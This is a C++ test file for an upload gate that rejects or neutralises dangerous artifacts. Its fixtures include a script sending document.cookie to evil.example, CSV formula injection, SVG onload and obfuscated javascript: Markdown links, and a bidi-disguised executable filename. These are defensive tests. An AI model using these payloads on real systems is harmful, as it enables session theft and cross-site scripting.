// The artifact gate (artifacts::Gate): the decision order (size, type and
// allowlist, active content, spreadsheet formulas) and what each verdict
// serves: the media type and the exact bytes stored.
#include <doctest/doctest.h>

#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "server/artifacts/inspect.h"
#include "server/artifacts/types.h"

using namespace std::string_literals;
// The whole gate in this process: the name, the inspection, the extension.
using Gate = artifacts::InProcessGate;
using artifacts::GatePolicy;
using artifacts::Verdict;
namespace csv = artifacts::csv;

namespace {

constexpr uint64_t kFileMax = 16u << 20;

const std::vector<std::string> kDefaultAllowed{"text/plain",       "text/csv",      "text/tab-separated-values",
                                               "application/json", "text/markdown", "image/png",
                                               "image/jpeg",       "image/gif",     "application/pdf"};

std::vector<std::string> allowed_plus(const std::vector<std::string>& extra) {
  std::vector<std::string> all = kDefaultAllowed;
  all.insert(all.end(), extra.begin(), extra.end());
  return all;
}

Gate make_gate(std::vector<std::string> allowed = kDefaultAllowed, uint64_t file_max = kFileMax,
               csv::Mode mode = csv::Mode::kNeutralise, bool active_as_text = false) {
  auto gate = Gate::create(GatePolicy{std::move(allowed), file_max, mode, active_as_text});
  REQUIRE_MESSAGE(gate.ok(), gate.error().message);
  return std::move(gate.value());
}

const Gate& default_gate() {
  static Gate gate = make_gate();
  return gate;
}

bool contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

// A rejected verdict carries no type and no bytes to store.
void check_rejected(const Verdict& v, const std::string& reason_part) {
  CHECK(v.verdict == artifacts::VerdictKind::kRejected);
  CHECK_MESSAGE(contains(v.reason, reason_part), "reason: " << v.reason);
  CHECK(v.media_type == "");
  CHECK(v.content == "");
}

// A 1x1 RGBA PNG with correct lengths and CRCs: signature, IHDR, IDAT, IEND
// (its IDAT length once said 13 for 10 bytes; artifacts::images caught it).
const std::string kPng =
    "\x89PNG\r\n\x1a\n"
    "\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    "\x00\x00\x00\x0aIDATx\x9c\x63\x00\x01\x00\x00\x05\x00\x01\x0d\x0a\x2d\xb4"
    "\x00\x00\x00\x00IEND\xae\x42\x60\x82"s;

std::string elf_prefix() {
  std::ifstream f("/usr/bin/true", std::ios::binary);
  REQUIRE_MESSAGE(f.good(), "cannot open /usr/bin/true");
  std::string bytes(4096, '\0');
  f.read(bytes.data(), static_cast<std::streamsize>(bytes.size()));
  bytes.resize(static_cast<size_t>(f.gcount()));
  REQUIRE(bytes.size() > 64);
  REQUIRE(bytes.substr(0, 4) ==
          "\x7f"
          "ELF");
  return bytes;
}

const std::string kFormulaCsv =
    "name,link,total\n"
    "alice,\"=HYPERLINK(\"\"http://evil.example/x\"\",\"\"click\"\")\",10\n"
    "bob,plain,@SUM(A1:A9)\n";
const std::string kFormulaCsvSanitized =
    "name,link,total\n"
    "alice,\"'=HYPERLINK(\"\"http://evil.example/x\"\",\"\"click\"\")\",10\n"
    "bob,plain,'@SUM(A1:A9)\n";

const std::string kScriptHtml =
    "<!DOCTYPE html>\n<html><head><title>r</title></head>\n"
    "<body><p>report</p><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n";
const std::string kCleanHtml =
    "<!DOCTYPE html>\n<html><head><title>Report</title></head>\n"
    "<body><h1>Totals</h1><table><tr><td>a</td><td>1</td></tr></table></body></html>\n";
const std::string kOnloadSvg =
    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" onload=\"alert(1)\">"
    "<rect width=\"10\" height=\"10\"/></svg>\n";
const std::string kCleanSvg =
    "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n"
    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" viewBox=\"0 0 10 10\">\n"
    "<rect x=\"0\" y=\"0\" width=\"10\" height=\"10\" fill=\"#336699\"/>\n</svg>\n";

}  // namespace

TEST_CASE("clean CSV is accepted as text/csv with its bytes unchanged") {
  const std::string csv_text = "id,amount,note\n1,12.50,coffee\n2,3.00,\"tea, green\"\n";
  Verdict v = default_gate().check("orders.csv", csv_text);
  CHECK(v.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(v.media_type == "text/csv");
  CHECK(v.content == csv_text);
  CHECK(contains(v.reason, "no formula cells"));
}

TEST_CASE("CSV with =HYPERLINK and @SUM cells is sanitized: apostrophes, and the count in the reason") {
  Verdict v = default_gate().check("links.csv", kFormulaCsv);
  CHECK(v.verdict == artifacts::VerdictKind::kSanitized);
  CHECK(v.media_type == "text/csv");
  CHECK(v.content == kFormulaCsvSanitized);
  CHECK_MESSAGE(contains(v.reason, "2 cells"), v.reason);
  CHECK(contains(v.reason, "apostrophe"));
}

TEST_CASE("CSV formulas in reject mode: the file is rejected") {
  Gate gate = make_gate(kDefaultAllowed, kFileMax, csv::Mode::kReject);
  Verdict v = gate.check("links.csv", kFormulaCsv);
  check_rejected(v, "spreadsheet check");
  CHECK_MESSAGE(contains(v.reason, "2 cells"), v.reason);
  CHECK(contains(v.reason, "formula injection"));
  // A clean file still passes in reject mode.
  Verdict clean = gate.check("ok.csv", "a,b\n1,2\n");
  CHECK(clean.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(clean.content == "a,b\n1,2\n");
}

TEST_CASE("negative and signed numbers are not formulas: untouched") {
  const std::string csv_text = "item,delta,exp\nrefund,-80.00,+1e5\nfee,+3,-0.5\n";
  Verdict v = default_gate().check("ledger.csv", csv_text);
  CHECK(v.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(v.media_type == "text/csv");
  CHECK(v.content == csv_text);
}

TEST_CASE("a formula in a TSV is sanitized and served as text/tab-separated-values") {
  const std::string tsv = "a\tb\tc\n1\t=1+1\t-2+3\n4\t-4.25\tok\n";
  Verdict v = default_gate().check("sheet.tsv", tsv);
  CHECK(v.verdict == artifacts::VerdictKind::kSanitized);
  CHECK(v.media_type == "text/tab-separated-values");
  CHECK(v.content == "a\tb\tc\n1\t'=1+1\t'-2+3\n4\t-4.25\tok\n");
  CHECK_MESSAGE(contains(v.reason, "2 cells"), v.reason);
}

TEST_CASE("an unparseable CSV is rejected, not passed through") {
  Verdict v = default_gate().check("broken.csv", "a,b\n\"unterminated,=1+1\n");
  check_rejected(v, "spreadsheet check");
}

TEST_CASE("ELF bytes named chart.png are rejected; the reason names the sniffed type") {
  const std::string elf = elf_prefix();
  auto sniffer = artifacts::types::Sniffer::create();
  REQUIRE(sniffer.ok());
  const std::string sniffed = sniffer.value().sniff(elf).mime;
  REQUIRE(!sniffed.empty());
  CHECK(sniffed != "image/png");

  Verdict v = default_gate().check("chart.png", elf);
  check_rejected(v, sniffed);
  CHECK(contains(v.reason, "image/png"));
  CHECK(contains(v.reason, "ELF"));
}

TEST_CASE("a real PNG named x.png is accepted as image/png with its bytes unchanged") {
  Verdict v = default_gate().check("x.png", kPng);
  CHECK(v.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(v.media_type == "image/png");
  CHECK(v.content == kPng);
}

TEST_CASE("HTML with <script> is rejected as active content") {
  check_rejected(default_gate().check("report.html", kScriptHtml), "active content");
  // Also when the policy allows HTML: the scan comes first.
  Gate html_allowed = make_gate(allowed_plus({"text/html"}));
  Verdict v = html_allowed.check("report.html", kScriptHtml);
  check_rejected(v, "active content");
  CHECK(contains(v.reason, "script"));
}

TEST_CASE("HTML with <script> and active_content_as_text: only as text, so only under a text name") {
  Gate gate = make_gate(allowed_plus({"text/html"}), kFileMax, csv::Mode::kNeutralise, true);
  // Served as text/plain but saved as report.html, a browser would run it.
  Verdict named_html = gate.check("report.html", kScriptHtml);
  check_rejected(named_html, "the extension .html is not allowed for text/plain files; allowed: .txt");
  Verdict v = gate.check("report.html.txt", kScriptHtml);
  CHECK(v.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(v.media_type == "text/plain");
  CHECK(v.content == kScriptHtml);
}

TEST_CASE("clean HTML: not allowed by the default policy; allowed, it is served as text/plain") {
  Verdict v = default_gate().check("report.html", kCleanHtml);
  check_rejected(v, "not allowed by the policy");
  CHECK(contains(v.reason, "text/html"));

  Gate gate = make_gate(allowed_plus({"text/html"}));
  Verdict allowed = gate.check("report.html", kCleanHtml);
  CHECK(allowed.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(allowed.media_type == "text/plain");
  CHECK(allowed.media_type != "text/html");
  CHECK(allowed.content == kCleanHtml);
}

TEST_CASE("SVG with onload is rejected as active content, whatever the allowlist") {
  Verdict v = default_gate().check("icon.svg", kOnloadSvg);
  check_rejected(v, "active content");
  CHECK(contains(v.reason, "onload"));
  check_rejected(make_gate(allowed_plus({"image/svg+xml"})).check("icon.svg", kOnloadSvg), "active content");
}

TEST_CASE("clean SVG: not allowed by the default policy; accepted as image/svg+xml when allowed") {
  Verdict v = default_gate().check("plot.svg", kCleanSvg);
  check_rejected(v, "not allowed by the policy");
  CHECK(contains(v.reason, "image/svg+xml"));

  Verdict allowed = make_gate(allowed_plus({"image/svg+xml"})).check("plot.svg", kCleanSvg);
  CHECK(allowed.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(allowed.media_type == "image/svg+xml");
  CHECK(allowed.content == kCleanSvg);
}

TEST_CASE("Markdown with raw <script> is rejected; clean Markdown is accepted as text/markdown") {
  const std::string md = "# Notes\n\nSome *text*.\n\n<script>alert(document.domain)</script>\n";
  Verdict v = default_gate().check("notes.md", md);
  check_rejected(v, "active content");
  CHECK(contains(v.reason, "script"));

  const std::string clean = "# Notes\n\n- one\n- two\n\n[link](https://example.org/)\n";
  Verdict ok = default_gate().check("notes.md", clean);
  CHECK(ok.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(ok.media_type == "text/markdown");
  CHECK(ok.content == clean);
}

// Markdown's own link syntax makes a clickable javascript: URL in a renderer
// just as <a href="javascript:..."> does (which the gate rejects, as it does
// the autolink <javascript:...>). Found by this test: the scan only looks at
// tags, so these leave as text/markdown.
TEST_CASE("Markdown links and link definitions to javascript: URLs are rejected as active content") {
  for (const std::string& md :
       {"# Notes\n\n[click](javascript:alert(document.domain))\n"s,
        "# Notes\n\n[click][r]\n\n[r]: javascript:alert(1)\n"s, "# Notes\n\n![x](javascript:alert(1))\n"s}) {
    Verdict v = default_gate().check("notes.md", md);
    CHECK_MESSAGE(v.verdict == artifacts::VerdictKind::kRejected, "accepted: " << md);
    CHECK_MESSAGE(contains(v.reason, "active content"), v.reason);
  }
  // The same URL in tag form is already caught.
  check_rejected(default_gate().check("notes.md", "# Notes\n\n<a href=\"javascript:alert(1)\">click</a>\n"),
                 "active content");
  check_rejected(default_gate().check("notes.md", "# Notes\n\n<javascript:alert(1)>\n"), "active content");
  // An ordinary link stays fine.
  CHECK(default_gate().check("notes.md", "[docs](https://example.org/a_(b))\n").verdict ==
        artifacts::VerdictKind::kAccepted);
}

TEST_CASE("a file over file_max_bytes is rejected before sniffing") {
  Gate gate = make_gate(kDefaultAllowed, 1024);
  // ELF bytes named .png would be a type mismatch; the size decides first.
  std::string elf = elf_prefix();
  REQUIRE(elf.size() > 1024);
  Verdict v = gate.check("chart.png", elf);
  check_rejected(v, "larger than the policy's 1024 bytes per file");
  CHECK_FALSE(contains(v.reason, "ELF"));
  CHECK_FALSE(contains(v.reason, "executable"));

  // Exactly at the cap is fine; one byte over is not.
  CHECK(gate.check("a.txt", std::string(1024, 'a')).verdict == artifacts::VerdictKind::kAccepted);
  check_rejected(gate.check("a.txt", std::string(1025, 'a')), "larger than");
}

TEST_CASE("invalid UTF-8 named notes.txt is rejected") {
  Verdict v = default_gate().check("notes.txt", "caf\xe9 au lait, na\xefve\n");
  check_rejected(v, "not valid UTF-8");
}

TEST_CASE("plain text and JSON are accepted with their types") {
  Verdict txt = default_gate().check("ok.txt", "all good\n");
  CHECK(txt.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(txt.media_type == "text/plain");
  CHECK(txt.content == "all good\n");
  Verdict json = default_gate().check("data.json", "{\"a\": [1, 2, 3], \"b\": \"x\"}\n");
  CHECK(json.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(json.media_type == "application/json");
}

TEST_CASE("upload_media_type: orders.csv is text/csv") {
  const std::string csv_text = "id,amount\n1,2.50\n2,3.75\n";
  const auto& g = default_gate();
  CHECK(artifacts::upload_media_type("orders.csv", csv_text, g.sniffer(), kDefaultAllowed) == "text/csv");
  CHECK(artifacts::upload_media_type("x.png", kPng, g.sniffer(), kDefaultAllowed) == "image/png");
}

TEST_CASE("Markdown links hiding javascript: behind character references or spaces are rejected") {
  Gate gate = make_gate();
  for (const char* md :
       {"[x](&#106;avascript:alert(1))\n", "[x]( <JaVaScRiPt:alert(1)>)\n", "[r]:\n  &#x6a;avascript:alert(1)\n",
        "![i](vbscript:msgbox)\n", "[d](data:text/html;base64,PHNjcmlwdD4=)\n"}) {
    CAPTURE(std::string(md));
    Verdict v = gate.check("notes.md", std::string("# Notes\n\n") + md);
    CHECK(v.verdict == artifacts::VerdictKind::kRejected);
    CHECK(v.reason.find("active content") != std::string::npos);
  }
  Verdict ok = gate.check("notes.md", "# Notes\n\n[docs](https://example.org/javascript:guide)\n");
  CHECK(ok.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(ok.media_type == "text/markdown");
}

TEST_CASE("with active_content as text, clean markup outside the allowlist is delivered as text, named as text") {
  Gate gate = make_gate(kDefaultAllowed, kFileMax, artifacts::csv::Mode::kNeutralise, true);
  const std::string html = "<html><body><h1>Report</h1><p>ok</p></body></html>\n";
  check_rejected(gate.check("report.html", html), "the extension .html is not allowed for text/plain files");
  Verdict v = gate.check("report.txt", html);
  CHECK(v.verdict == artifacts::VerdictKind::kAccepted);
  CHECK(v.media_type == "text/plain");
}

// Names that run, or show as something they are not, or that Windows
// changes on save, were once accepted as text/plain.
TEST_CASE("names: scripts, desktop entries, bidi overrides, trailing dots and spaces are rejected") {
  const std::string text = "echo hello\r\n";
  for (const char* runs : {"update.cmd", "x.ps1", "y.vbs", "z.js", "report.desktop", "run.BAT"})
    check_rejected(default_gate().check(runs, text), "makes the file run as a program or script");
  check_rejected(default_gate().check("invoice\u202efdp.cmd", text), "bidirectional control character (U+202E)");
  check_rejected(default_gate().check("report.csv.", "a,b\n=1+1,2\n"), "ends with a dot");
  check_rejected(default_gate().check("summary.csv ", "a,b\n=1+1,2\n"), "ends with a space");
  check_rejected(default_gate().check("NUL.txt", text), "Windows device name");
  check_rejected(default_gate().check("a?.txt", text), "which Windows does not allow");
}

TEST_CASE("names: an extension the policy does not list for the file's type is rejected, naming both") {
  check_rejected(default_gate().check("notes.log", "just text\n"),
                 "the extension .log is not allowed for text/plain files; allowed: .txt");
  check_rejected(default_gate().check("README", "just text\n"), "no extension is not allowed for text/plain");
  check_rejected(default_gate().check("chart.jpe", "x"), "");  // unknown extension: decided by content, then refused
  // The policy may add one.
  GatePolicy p{kDefaultAllowed, kFileMax, csv::Mode::kNeutralise, false, {{"text/plain", {".txt", ".log"}}}};
  auto gate = Gate::create(p);
  REQUIRE(gate.ok());
  CHECK(gate.value().check("notes.log", "just text\n").verdict == artifacts::VerdictKind::kAccepted);
  CHECK(gate.value().check("charts/q1.png", kPng).verdict == artifacts::VerdictKind::kAccepted);
}

// The verdict names results, records and metrics use; an unknown name fails closed.
TEST_CASE("verdict names") {
  using artifacts::VerdictKind;
  for (auto [kind, name] :
       {std::pair{VerdictKind::kAccepted, "accepted"}, std::pair{VerdictKind::kSanitized, "sanitized"},
        std::pair{VerdictKind::kRejected, "rejected"}}) {
    CHECK(artifacts::to_string(kind) == name);
    CHECK(artifacts::verdict_from_string(name) == kind);
  }
  CHECK(artifacts::verdict_from_string("") == VerdictKind::kRejected);
  CHECK(artifacts::verdict_from_string("Accepted") == VerdictKind::kRejected);
}
